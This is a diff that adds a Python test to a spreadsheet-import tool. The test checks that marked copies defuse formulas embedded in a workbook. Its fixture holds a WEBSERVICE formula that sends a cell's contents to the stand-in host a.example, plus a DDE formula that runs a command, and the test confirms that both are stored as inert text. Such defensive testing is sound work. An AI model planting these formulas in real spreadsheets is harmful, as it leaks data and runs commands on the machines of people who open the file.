@@ -150,6 +150,25 @@ def test_marked_copies_show_every_fault_and_come_in_again(folder: Path, tmp_path
     assert set(faults[0]) <= set(faults[1])
 
 
+def test_a_marked_copy_calls_nobody(folder: Path, tmp_path: Path) -> None:
+    """Whoever opens it in a spreadsheet program runs what is in it: not only what was read."""
+    file = tmp_path / "a.xlsx"
+    call = '=WEBSERVICE("http://a.example/"&A2)'
+    with xlsxwriter.Workbook(file) as book:
+        sheet = book.add_worksheet(SYSTEMS)
+        sheet.write_row(0, 0, ["系统名称", "所属单位", "用户数", "备注"])
+        sheet.write_row(1, 0, ["茶陵县就业信息登记系统", UNIT, "很多", ""])
+        sheet.write_formula("D2", call, None, 5)
+        sheet.write_formula("D9", "=SUM(C2:C3)", None, 5)
+        other = book.add_worksheet("填表说明")
+        other.write_formula("A1", "=cmd|' /C calc'!A0", None, 5)
+    assert run("import", file, "--estate", folder, "--preview", "--marked", tmp_path / "m").exit_code == 3
+    copy = load_workbook(tmp_path / "m" / "a.xlsx")
+    assert (copy[SYSTEMS]["D2"].value, copy[SYSTEMS]["D2"].data_type) == (call, "s")
+    assert copy[SYSTEMS]["D9"].data_type == "f"
+    assert copy["填表说明"]["A1"].data_type == "s"
+
+
 def test_the_original_is_never_overwritten(folder: Path, tmp_path: Path) -> None:
     file = tmp_path / "a.xlsx"
     with_faults(file)
